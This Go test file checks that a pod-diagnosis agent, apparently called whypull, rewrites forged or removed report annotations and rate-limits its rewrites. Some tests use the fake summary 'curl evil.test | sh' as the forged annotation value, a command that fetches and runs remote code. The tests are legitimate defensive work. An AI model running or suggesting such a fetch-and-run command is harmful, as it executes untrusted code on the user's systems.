package report

import (
	"errors"
	"fmt"
	"maps"
	"testing"
	"time"

	"github.com/whypull/whypull/agent"
	"github.com/whypull/whypull/agent/diagnosis"
	"github.com/whypull/whypull/agent/podwatch"
)

// seen is the pod as the watch shows it now.
func (d *desk) seen(annotations map[string]string) podwatch.Update {
	u := watched()
	u.SeenAt, u.Annotations = d.at, annotations
	return u
}

// forged are a pod's annotations after somebody has edited one of them, or, with
// no text, has removed it.
func forged(annotations map[string]string, key, text string) map[string]string {
	out := maps.Clone(annotations)
	out[key] = text
	if text == "" {
		delete(out, key)
	}
	return out
}

// Whoever may write to a pod can forge its report: the agent writes its own
// again, but not more often than once in 20 seconds.
func TestEditedReportIsWrittenAgain(t *testing.T) {
	t.Parallel()
	const lie = `{"schema":"whypull.dev/v1","node":"worker-3","observedAt":"2026-01-02T03:04:05Z","containers":[]}`
	for name, tt := range map[string]struct{ key, text string }{
		"another report":  {ReportAnnotation, lie},
		"no report":       {ReportAnnotation, "by hand"},
		"another summary": {SummaryAnnotation, "run this: curl evil.test | sh"},
		"another cause":   {CauseAnnotation, "DiskFull"},
		"removed":         {ReportAnnotation, ""},
	} {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			d := newDesk(t)
			v := verdict("app", diagnosis.TagNotFound)
			d.publish(true, v)
			honest := d.annotations()
			for i := range 3 {
				d.later(10 * time.Second)
				if err := d.try(d.seen(forged(d.annotations(), tt.key, tt.text)), true, v); err != nil {
					t.Error(err)
				}
				d.want("too soon", 1+i, 1)
				d.wantAgain("too soon", 10*time.Second)
				d.later(10 * time.Second)
				if err := d.try(d.seen(forged(d.annotations(), tt.key, tt.text)), true, v); err != nil {
					t.Error(err)
				}
				d.want("after it", 2+i, 1)
				d.wantAgain("after it")
			}
			if got := d.annotations(); got[CauseAnnotation] != honest[CauseAnnotation] || got[SummaryAnnotation] != honest[SummaryAnnotation] ||
				withoutTimes(t, got[ReportAnnotation]) != withoutTimes(t, honest[ReportAnnotation]) {
				t.Errorf("got %q, want %q", got, honest)
			}
		})
	}
}

// What the watch shows of the agent's own writes is no edit, nor is what it showed
// before them, nor an annotation that whypull does not write.
func TestUneditedReportIsLeftAlone(t *testing.T) {
	t.Parallel()
	for name, see := range map[string]func(d *desk) podwatch.Update{
		"its own":     func(d *desk) podwatch.Update { return d.seen(d.annotations()) },
		"before":      func(*desk) podwatch.Update { return watched() },
		"another key": func(d *desk) podwatch.Update { return d.seen(forged(d.annotations(), Prefix+"note", "by hand")) },
	} {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			d := newDesk(t)
			v := verdict("app", diagnosis.TagNotFound)
			d.publish(true, v)
			for range 3 {
				d.later(10 * time.Minute)
				if err := d.try(see(d), true, v); err != nil {
					t.Error(err)
				}
			}
			d.want("unedited", 1, 1)
			d.wantAgain("unedited")
		})
	}
}

// An agent that was restarted takes over a report with the same content only if
// the other annotations agree with it.
func TestEditedWhileTheAgentWasAway(t *testing.T) {
	t.Parallel()
	for key, text := range map[string]string{SummaryAnnotation: "curl evil.test | sh", CauseAnnotation: ""} {
		v := verdict("app", diagnosis.TagNotFound)
		d, u := restarted(t, true, v)
		u.Annotations = forged(u.Annotations, key, text)
		for range 2 {
			if err := d.try(u, true, v); err != nil {
				t.Error(err)
			}
		}
		d.want(key, 2, 1)
	}
}

// A report that is dated in the future does not keep the agent from writing its
// own.
func TestForgedDate(t *testing.T) {
	t.Parallel()
	d := newDesk(t)
	u := watched()
	u.Annotations = map[string]string{CauseAnnotation: "TagNotFound", ReportAnnotation: `{"schema":"whypull.dev/v1","node":"worker-3","observedAt":"9999-01-02T03:04:05Z",` +
		`"containers":[{"name":"app","kind":"container","cause":"TagNotFound","summary":"run this: curl evil.test | sh"}]}`}
	if err := d.try(u, true, verdict("app", diagnosis.TagNotFound)); err != nil {
		t.Error(err)
	}
	d.want("at once", 1, 1)
}

// Reports are removed from pods that do not fail, however often somebody writes
// them, but not more often than once in 20 seconds.
func TestForgedReportOfAPodThatDoesNotFail(t *testing.T) {
	t.Parallel()
	d := newDesk(t)
	lie := map[string]string{ReportAnnotation: `{"schema":"whypull.dev/v1","node":"worker-3","observedAt":"2026-01-02T03:04:05Z","containers":[]}`}
	for i := range 3 {
		if err := d.try(d.seen(lie), true); err != nil {
			t.Error(err)
		}
		d.want("removed", 1+i, 0)
		d.wantRemoved()
		d.later(5 * time.Second)
		d.p = d.publisher.Pod("uid-1") // the loop has dropped the pod
		if err := d.try(d.seen(lie), true); !errors.Is(err, agent.ErrDeferred) {
			t.Errorf("got error %v, want %v", err, agent.ErrDeferred)
		}
		d.want("deferred", 1+i, 0)
		d.wantAgain("deferred", 15*time.Second)
		d.later(15 * time.Second)
	}
	for i := range 100 {
		d.publisher.removed.Put(t.Context(), fmt.Sprint(i), struct{}{})
		d.later(10 * time.Second)
	}
	if got := d.publisher.removed.Len(); got > 2 {
		t.Errorf("got %d removals in memory, want those of 20 seconds", got)
	}
}
